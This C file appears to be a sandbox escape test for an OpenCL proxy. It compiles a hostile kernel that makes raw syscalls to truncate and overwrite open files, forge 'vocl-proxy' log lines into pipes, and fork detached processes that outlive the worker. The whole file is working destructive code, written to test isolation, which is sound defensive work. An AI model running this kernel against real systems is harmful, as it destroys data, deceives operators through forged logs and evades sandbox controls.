/*
 * A hostile kernel: on a CPU device it is machine code in the worker. It truncates and overwrites all open files,
 * forges lines of the log on standard error, asks for a file of the daemon's, and leaves processes behind: in a session
 * of their own, and in one whose leader has ended. It prints how far it got. usage: escape [LINES]
 */
#include <stdio.h>
#include <stdlib.h>

#define CL_USE_DEPRECATED_OPENCL_1_2_APIS
#include <CL/cl.h>

#define SLOTS 512

static const char source[] =
    "long call(long number, long a, long b, long c)\n"
    "{\n"
    "    long result;\n"
    "    __asm__ volatile(\"syscall\" : \"=a\"(result) : \"a\"(number), \"D\"(a), \"S\"(b), \"d\"(c)\n"
    "                     : \"rcx\", \"r11\", \"memory\");\n"
    "    return result;\n"
    "}\n"
    "void rest(void)\n"
    "{\n"
    "    long time[2] = {1, 0};\n"
    "    for (int i = 0; i < 120; i++)\n"
    "        call(35, (long)time, 0, 0);\n"
    "    call(231, 0, 0, 0);\n"
    "}\n"
    "kernel void escape(global long *out, long lines)\n"
    "{\n"
    "    char line[] = \"vocl-proxy: notice: drained by root\\n\";\n"
    "    char cleared[] = \"\\033[2J\\a\\rvocl-proxy: notice: drained by root\\n\";\n"
    "    long emptied = 0, pid;\n"
    "    for (long fd = 0; fd < 256; fd++) {\n"
    "        if ((call(72, fd, 3, 0) & 3) == 1 && call(77, fd, 0, 0) == 0) {\n" /* F_GETFL: write-only files, not its
                                                                                   own shared memory; ftruncate */
    "            out[8 + emptied++] = fd;\n"
    "            call(1, fd, (long)line, sizeof(line) - 1);\n"
    "        }\n"
    "    }\n"
    "    for (long fd = 3; fd < 64; fd++) {\n" /* pipes: bytes in other descriptors end its own session only */
    "        if (call(72, fd, 1032, 0) < 0)\n" /* F_GETPIPE_SZ */
    "            continue;\n"
    "        for (long i = 0; i < lines; i++) {\n"
    "            call(1, fd, (long)line, sizeof(line) - 1);\n"
    "            call(1, fd, (long)cleared, sizeof(cleared) - 1);\n"
    "        }\n"
    "    }\n"
    "    out[0] = emptied;\n"
    "    pid = call(57, 0, 0, 0);\n" /* fork */
    "    if (pid == 0) {\n"
    "        call(112, 0, 0, 0);\n" /* setsid */
    "        rest();\n"
    "    }\n"
    "    out[1] = pid;\n"
    "    pid = call(57, 0, 0, 0);\n"
    "    if (pid == 0) {\n"
    "        call(112, 0, 0, 0);\n"
    "        if (call(57, 0, 0, 0) == 0) {\n"
    "            out[2] = call(39, 0, 0, 0);\n"
    "            rest();\n"
    "        }\n"
    "        call(231, 0, 0, 0);\n"
    "    }\n"
    "    out[3] = call(39, 0, 0, 0);\n"  /* the worker */
    "    out[4] = call(102, 0, 0, 0);\n" /* its user */
    "}\n";

int main(int count, char **arguments)
{
    const cl_long lines = count > 1 ? atol(arguments[1]) : 1;
    const char *text = source;
    static cl_long out[SLOTS];
    const size_t one = 1;
    cl_platform_id platform;
    cl_device_id device;
    cl_int error = clGetPlatformIDs(1, &platform, NULL);
    cl_context context;
    cl_command_queue queue;
    cl_program program;
    cl_kernel kernel;
    cl_mem buffer;

    if (error || clGetDeviceIDs(platform, CL_DEVICE_TYPE_CPU, 1, &device, NULL))
        return 77;
    context = clCreateContext(NULL, 1, &device, NULL, NULL, &error);
    queue = clCreateCommandQueue(context, device, 0, &error);
    program = clCreateProgramWithSource(context, 1, &text, NULL, &error);
    if (clBuildProgram(program, 0, NULL, "", NULL, NULL)) {
        char log[4096] = "";

        clGetProgramBuildInfo(program, device, CL_PROGRAM_BUILD_LOG, sizeof(log), log, NULL);
        fprintf(stderr, "%s\n", log);
        return 77; /* another processor, or another compiler */
    }
    kernel = clCreateKernel(program, "escape", &error);
    buffer = clCreateBuffer(context, CL_MEM_READ_WRITE | CL_MEM_ALLOC_HOST_PTR, sizeof(out), NULL, &error);
    clEnqueueWriteBuffer(queue, buffer, CL_TRUE, 0, sizeof(out), out, 0, NULL, NULL);
    clSetKernelArg(kernel, 0, sizeof(buffer), &buffer);
    clSetKernelArg(kernel, 1, sizeof(lines), &lines);
    error = clEnqueueNDRangeKernel(queue, kernel, 1, NULL, &one, &one, 0, NULL, NULL);
    if (!error)
        error = clEnqueueReadBuffer(queue, buffer, CL_TRUE, 0, sizeof(out), out, 0, NULL, NULL);
    printf("error %d emptied %lld forked %lld worker %lld user %lld\n", error, (long long)out[0], (long long)out[1],
           (long long)out[3], (long long)out[4]);
    fflush(stdout);
    if (count > 2) /* until standard input ends */
        getchar();
    return error != 0;
}
